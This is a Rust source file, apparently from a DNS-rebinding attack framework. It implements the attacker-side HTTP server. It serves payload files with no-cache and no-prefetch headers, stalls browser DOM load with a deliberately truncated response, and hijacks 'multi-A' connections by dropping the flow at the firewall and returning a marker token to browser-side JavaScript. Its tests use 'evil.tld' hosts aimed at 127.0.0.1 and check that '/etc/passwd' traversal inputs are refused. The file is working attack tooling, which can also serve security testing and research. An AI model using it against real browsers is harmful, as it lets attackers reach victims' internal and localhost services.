//! Minimal HTTP/1.1 handling straight on the accepted socket.
//!
//! Two endpoints here are byte-level contracts with the browser-side
//! JavaScript that no HTTP framework will emit: the multi-A hijack path
//! answers a request with a bare token and no status line, and
//! `/delaydomload` promises more body bytes than it sends. So the router
//! reads the request head itself and keeps hold of the raw stream.
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use log::{debug, error, info};
use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::error::{RebindError, RebindResult};
use crate::firewall;
use crate::http::server::HttpServerPool;
use crate::qname::parse_host;
use crate::session::SessionStore;
use crate::strategy::RebindStrategy;

/// What the browser-side code reads off the socket to tell "attacker" from
/// "target". Stable interop contract, do not change.
pub const HIJACK_TOKEN: &[u8] = b"thisismytesttoken";

// the multi-A dance only hijacks connections opened a little after the DNS
// answer, i.e. the browser is on its second fetch
const HIJACK_MIN_AGE: Duration = Duration::from_secs(3);

// how long /delaydomload keeps the browser waiting for its last body byte
const DOM_LOAD_HOLD: Duration = Duration::from_secs(10);

const MAX_HEAD_SIZE: usize = 8192;

// on every ordinary response: the browser must re-fetch and re-resolve every
// time, and must not prefetch names
const NO_CACHE_HEADERS: &str = "Cache-Control: no-cache, no-store, must-revalidate\r\n\
Pragma: no-cache\r\n\
Expires: 0\r\n\
X-DNS-Prefetch-Control: off\r\n";

const EMPTY_PORT_BODY: &[u8] = br#"{"Port":""}"#;

/// One entry of the `/servers` inventory; doubles as the PUT request body.
#[derive(Debug, Serialize, Deserialize)]
pub struct ServerInfo {
    #[serde(rename = "Port")]
    pub port: String,
}

/// The `/servers` GET response.
#[derive(Debug, Serialize, Deserialize)]
pub struct ServerInventory {
    #[serde(rename = "ServerInformation")]
    pub servers: Vec<ServerInfo>,
    #[serde(rename = "AllowDynamicHTTPServers")]
    pub allow_dynamic: bool,
}

#[derive(Debug)]
struct Request {
    method: String,
    path: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Request {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(key, _)| key.eq_ignore_ascii_case(name))
            .map(|(_, value)| value.as_str())
    }
}

/// Serve exactly one transaction and close; keep-alive is never granted so
/// the browser's next request has to reconnect (and maybe re-resolve).
pub async fn handle_connection(
    mut stream: TcpStream,
    pool: Arc<HttpServerPool>,
) -> RebindResult<()> {
    let request = match read_request(&mut stream).await? {
        Some(request) => request,
        None => {
            write_response(&mut stream, 400, "text/plain", b"").await?;
            return Ok(());
        }
    };

    debug!("{} {}", request.method, request.path);

    // route on the path alone
    let path = request.path.split('?').next().unwrap_or("/").to_string();
    match path.as_str() {
        "/servers" => servers_endpoint(&mut stream, &request, &pool).await,
        "/delaydomload" => delay_dom_load(&mut stream).await,
        _ => static_files(&mut stream, &request, &path, &pool).await,
    }
}

// read the head up to CRLFCRLF (bounded), then the declared body
async fn read_request(stream: &mut TcpStream) -> RebindResult<Option<Request>> {
    let mut buffer: Vec<u8> = Vec::with_capacity(1024);
    let mut chunk = [0u8; 1024];

    let head_end = loop {
        if let Some(position) = find_blank_line(&buffer) {
            break position;
        }
        if buffer.len() > MAX_HEAD_SIZE {
            return Ok(None);
        }
        let received = stream.read(&mut chunk).await?;
        if received == 0 {
            return Ok(None);
        }
        buffer.extend_from_slice(&chunk[..received]);
    };

    let head = match std::str::from_utf8(&buffer[..head_end]) {
        Ok(head) => head,
        Err(_) => return Ok(None),
    };

    let mut lines = head.split("\r\n");
    let mut request_line = match lines.next() {
        Some(line) => line.split_whitespace(),
        None => return Ok(None),
    };
    let (method, path) = match (request_line.next(), request_line.next()) {
        (Some(method), Some(path)) => (method.to_string(), path.to_string()),
        _ => return Ok(None),
    };

    let headers: Vec<(String, String)> = lines
        .filter_map(|line| {
            line.split_once(':')
                .map(|(name, value)| (name.trim().to_string(), value.trim().to_string()))
        })
        .collect();

    let mut request = Request {
        method,
        path,
        headers,
        body: buffer[head_end + 4..].to_vec(),
    };

    // pull in the rest of a declared body
    if let Some(length) = request
        .header("content-length")
        .and_then(|value| value.parse::<usize>().ok())
    {
        let length = length.min(MAX_HEAD_SIZE);
        while request.body.len() < length {
            let received = stream.read(&mut chunk).await?;
            if received == 0 {
                break;
            }
            request.body.extend_from_slice(&chunk[..received]);
        }
        request.body.truncate(length);
    }

    Ok(Some(request))
}

fn find_blank_line(buffer: &[u8]) -> Option<usize> {
    buffer.windows(4).position(|window| window == b"\r\n\r\n")
}

async fn servers_endpoint(
    stream: &mut TcpStream,
    request: &Request,
    pool: &Arc<HttpServerPool>,
) -> RebindResult<()> {
    match request.method.as_str() {
        "GET" => {
            let (static_ports, dynamic_port) = pool.ports();
            let inventory = ServerInventory {
                servers: static_ports
                    .into_iter()
                    .chain(dynamic_port)
                    .map(|port| ServerInfo {
                        port: port.to_string(),
                    })
                    .collect(),
                allow_dynamic: pool.config.allow_dynamic_servers,
            };
            let body = serde_json::to_vec(&inventory)?;
            write_response(stream, 200, "application/json", &body).await
        }
        "PUT" => match put_dynamic(request, pool).await {
            // acknowledge by echoing the request body
            Ok(echo) => write_response(stream, 200, "application/json", &echo).await,
            Err(e) => {
                debug!("dynamic listener request refused: {:?}", e);
                write_response(stream, 400, "application/json", EMPTY_PORT_BODY).await
            }
        },
        _ => write_response(stream, 400, "application/json", EMPTY_PORT_BODY).await,
    }
}

// every failure in here collapses into the same 400 at the caller
async fn put_dynamic(request: &Request, pool: &Arc<HttpServerPool>) -> RebindResult<Vec<u8>> {
    if !pool.config.allow_dynamic_servers {
        return Err(RebindError::new("dynamic http listeners are disabled"));
    }

    let info: ServerInfo = serde_json::from_slice(&request.body)?;
    let port: u16 = info
        .port
        .parse()
        .map_err(|_| RebindError::new("requested port does not parse"))?;

    Arc::clone(pool).replace_dynamic(port).await?;
    info!("dynamic http listener moved to port {}", port);

    Ok(request.body.clone())
}

// hold the browser right before DOMContentLoaded: promise 4 body bytes,
// deliver 3, go quiet
async fn delay_dom_load(stream: &mut TcpStream) -> RebindResult<()> {
    let head = format!(
        "HTTP/1.1 200 OK\r\n{}Content-Type: text/html\r\nContent-Length: 4\r\nConnection: close\r\n\r\n",
        NO_CACHE_HEADERS
    );
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(b"<ht").await?;
    stream.flush().await?;

    tokio::time::sleep(DOM_LOAD_HOLD).await;
    Ok(())
}

async fn static_files(
    stream: &mut TcpStream,
    request: &Request,
    path: &str,
    pool: &Arc<HttpServerPool>,
) -> RebindResult<()> {
    // the multi-A session this host belongs to may be due for its hijack
    if wants_hijack(request, &pool.store) {
        return hijack(stream).await;
    }

    let file_path = match resolve_path(&pool.config.www_root, path) {
        Some(file_path) => file_path,
        None => return write_response(stream, 404, "text/plain", b"not found").await,
    };

    match tokio::fs::read(&file_path).await {
        Ok(body) => {
            write_response(stream, 200, content_type_for(&file_path), &body).await
        }
        Err(e) => {
            debug!("static file {:?}: {}", file_path, e);
            write_response(stream, 404, "text/plain", b"not found").await
        }
    }
}

// requests for the multi-A payload are hijacked once the DNS answer is old
// enough that this must be the browser's follow-up fetch
fn wants_hijack(request: &Request, store: &SessionStore) -> bool {
    let host = match request.header("host") {
        Some(host) => host,
        None => return false,
    };
    let query = match parse_host(host) {
        Ok(query) => query,
        Err(_) => return false,
    };
    if RebindStrategy::from_name(&query.strategy) != Some(RebindStrategy::MultiA) {
        return false;
    }
    let session = match store.snapshot(&query.session) {
        Some(session) => session,
        None => return false,
    };
    if session.cache_flush {
        return false;
    }
    match session.current_query_at {
        Some(current) => current.elapsed() > HIJACK_MIN_AGE,
        None => false,
    }
}

// take over the raw connection: drop the flow at the packet filter, hand the
// browser the bare token, hang up
async fn hijack(stream: &mut TcpStream) -> RebindResult<()> {
    // both flow endpoints are needed to scope the drop rule
    let (peer, local) = match (stream.peer_addr(), stream.local_addr()) {
        (Ok(peer), Ok(local)) => (peer, local),
        _ => {
            error!("connection endpoints unavailable, hijack aborted");
            return Ok(());
        }
    };

    info!("hijacking flow {} -> {}", peer, local);
    firewall::hijack_flow(peer, local);

    stream.write_all(HIJACK_TOKEN).await?;
    stream.shutdown().await?;
    Ok(())
}

fn resolve_path(root: &std::path::Path, path: &str) -> Option<PathBuf> {
    let relative = path.trim_start_matches('/');

    // no escaping the payload directory
    if relative.split('/').any(|component| component == "..") {
        return None;
    }

    if relative.is_empty() || relative.ends_with('/') {
        Some(root.join(relative).join("index.html"))
    } else {
        Some(root.join(relative))
    }
}

fn content_type_for(path: &std::path::Path) -> &'static str {
    match path.extension().and_then(|e| e.to_str()) {
        Some("html") => "text/html",
        Some("js") => "application/javascript",
        Some("css") => "text/css",
        Some("json") => "application/json",
        Some("png") => "image/png",
        Some("ico") => "image/x-icon",
        Some("txt") => "text/plain",
        _ => "application/octet-stream",
    }
}

async fn write_response(
    stream: &mut TcpStream,
    status: u16,
    content_type: &str,
    body: &[u8],
) -> RebindResult<()> {
    let reason = match status {
        200 => "OK",
        400 => "Bad Request",
        404 => "Not Found",
        _ => "",
    };

    let head = format!(
        "HTTP/1.1 {} {}\r\n{}Content-Type: {}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        status,
        reason,
        NO_CACHE_HEADERS,
        content_type,
        body.len()
    );
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(body).await?;
    stream.flush().await?;
    stream.shutdown().await?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    use std::time::Instant;

    use crate::config::AppConfig;
    use crate::http::server::HttpServerPool;

    async fn started_pool(allow_dynamic: bool) -> (Arc<HttpServerPool>, u16) {
        let config = AppConfig {
            allow_dynamic_servers: allow_dynamic,
            ..AppConfig::default()
        };
        let (pool, _exits) = HttpServerPool::new(Arc::new(config), Arc::new(SessionStore::new()));
        Arc::clone(&pool).start_listener(0, false).await.unwrap();
        let (static_ports, _) = pool.ports();
        (pool, static_ports[0])
    }

    async fn roundtrip(port: u16, request: &str) -> String {
        let mut stream = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
        stream.write_all(request.as_bytes()).await.unwrap();

        let mut response = Vec::new();
        stream.read_to_end(&mut response).await.unwrap();
        String::from_utf8(response).unwrap()
    }

    #[tokio::test]
    async fn servers_get_lists_static_then_dynamic() {
        let (pool, port) = started_pool(true).await;
        Arc::clone(&pool).start_listener(0, true).await.unwrap();
        let (_, dynamic) = pool.ports();

        let response = roundtrip(port, "GET /servers HTTP/1.1\r\nHost: x\r\n\r\n").await;
        assert!(response.starts_with("HTTP/1.1 200 OK\r\n"));
        assert!(response.contains("Cache-Control: no-cache, no-store, must-revalidate"));
        assert!(response.contains("X-DNS-Prefetch-Control: off"));

        let body = response.split("\r\n\r\n").nth(1).unwrap();
        let inventory: ServerInventory = serde_json::from_str(body).unwrap();
        assert!(inventory.allow_dynamic);
        assert_eq!(inventory.servers.len(), 2);
        assert_eq!(inventory.servers[0].port, port.to_string());
        assert_eq!(inventory.servers[1].port, dynamic.unwrap().to_string());
    }

    #[tokio::test]
    async fn servers_put_rejected_when_dynamic_disallowed() {
        let (pool, port) = started_pool(false).await;

        let body = r#"{"Port":"9999"}"#;
        let request = format!(
            "PUT /servers HTTP/1.1\r\nHost: x\r\nContent-Length: {}\r\n\r\n{}",
            body.len(),
            body
        );
        let response = roundtrip(port, &request).await;
        assert!(response.starts_with("HTTP/1.1 400 Bad Request\r\n"));
        assert!(response.ends_with(r#"{"Port":""}"#));

        // and the inventory is untouched
        let (static_ports, dynamic) = pool.ports();
        assert_eq!(static_ports.len(), 1);
        assert!(dynamic.is_none());
    }

    #[tokio::test]
    async fn servers_put_installs_and_echoes() {
        let (pool, port) = started_pool(true).await;

        let body = r#"{"Port":"0"}"#;
        let request = format!(
            "PUT /servers HTTP/1.1\r\nHost: x\r\nContent-Length: {}\r\n\r\n{}",
            body.len(),
            body
        );
        let response = roundtrip(port, &request).await;
        assert!(response.starts_with("HTTP/1.1 200 OK\r\n"));
        assert!(response.ends_with(body));

        let (_, dynamic) = pool.ports();
        assert!(dynamic.is_some());
    }

    #[tokio::test]
    async fn servers_put_with_garbage_body_is_a_400() {
        let (_pool, port) = started_pool(true).await;

        let request = "PUT /servers HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\n\r\nnop";
        let response = roundtrip(port, request).await;
        assert!(response.starts_with("HTTP/1.1 400 Bad Request\r\n"));
        assert!(response.ends_with(r#"{"Port":""}"#));
    }

    #[tokio::test]
    async fn servers_other_methods_are_a_400() {
        let (_pool, port) = started_pool(true).await;

        let response = roundtrip(port, "DELETE /servers HTTP/1.1\r\nHost: x\r\n\r\n").await;
        assert!(response.starts_with("HTTP/1.1 400 Bad Request\r\n"));
    }

    #[tokio::test]
    async fn multi_a_session_gets_hijacked() {
        let (pool, port) = started_pool(false).await;

        // a multi-A session whose DNS answer is comfortably old
        pool.store.upsert(
            "xyz",
            "1.2.3.4".parse().unwrap(),
            "127.0.0.1".parse().unwrap(),
            false,
            Duration::from_secs(60),
        );
        pool.store
            .touch("xyz", Instant::now() - Duration::from_secs(4));

        let request =
            "GET / HTTP/1.1\r\nHost: s-1.2.3.4-127.0.0.1-xyz-fromquerymultia-e.evil.tld\r\n\r\n";
        let response = roundtrip(port, request).await;
        assert_eq!(response.as_bytes(), HIJACK_TOKEN);
    }

    #[tokio::test]
    async fn young_multi_a_session_is_served_normally() {
        let (pool, port) = started_pool(false).await;

        pool.store.upsert(
            "xyz",
            "1.2.3.4".parse().unwrap(),
            "127.0.0.1".parse().unwrap(),
            false,
            Duration::from_secs(60),
        );
        pool.store.touch("xyz", Instant::now());

        let request =
            "GET / HTTP/1.1\r\nHost: s-1.2.3.4-127.0.0.1-xyz-fromquerymultia-e.evil.tld\r\n\r\n";
        let response = roundtrip(port, request).await;
        // no payload directory in this test, but it must be an HTTP response
        assert!(response.starts_with("HTTP/1.1 404"));
    }

    #[tokio::test]
    async fn delaydomload_sends_a_truncated_document() {
        let (_pool, port) = started_pool(false).await;

        let mut stream = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
        stream
            .write_all(b"GET /delaydomload HTTP/1.1\r\nHost: x\r\n\r\n")
            .await
            .unwrap();

        // the head and the 3 promised-of-4 bytes arrive immediately; the
        // connection then goes quiet, so don't wait for EOF
        let mut received = Vec::new();
        let mut chunk = [0u8; 1024];
        loop {
            let n = stream.read(&mut chunk).await.unwrap();
            assert!(n > 0, "connection closed before the truncated body");
            received.extend_from_slice(&chunk[..n]);
            if received.ends_with(b"<ht") {
                break;
            }
        }
        let text = String::from_utf8(received).unwrap();
        assert!(text.starts_with("HTTP/1.1 200 OK\r\n"));
        assert!(text.contains("Content-Length: 4\r\n"));
        assert!(text.contains("Content-Type: text/html\r\n"));
    }

    #[test]
    fn traversal_is_refused() {
        let root = std::path::Path::new("/srv/payloads");
        assert!(resolve_path(root, "/../etc/passwd").is_none());
        assert!(resolve_path(root, "/a/../../etc/passwd").is_none());
        assert_eq!(
            resolve_path(root, "/").unwrap(),
            PathBuf::from("/srv/payloads/index.html")
        );
        assert_eq!(
            resolve_path(root, "/payload.js").unwrap(),
            PathBuf::from("/srv/payloads/payload.js")
        );
    }

    #[test]
    fn inventory_json_shape() {
        let inventory = ServerInventory {
            servers: vec![
                ServerInfo {
                    port: "8080".to_string(),
                },
                ServerInfo {
                    port: "8081".to_string(),
                },
            ],
            allow_dynamic: true,
        };
        assert_eq!(
            serde_json::to_string(&inventory).unwrap(),
            r#"{"ServerInformation":[{"Port":"8080"},{"Port":"8081"}],"AllowDynamicHTTPServers":true}"#
        );
    }
}
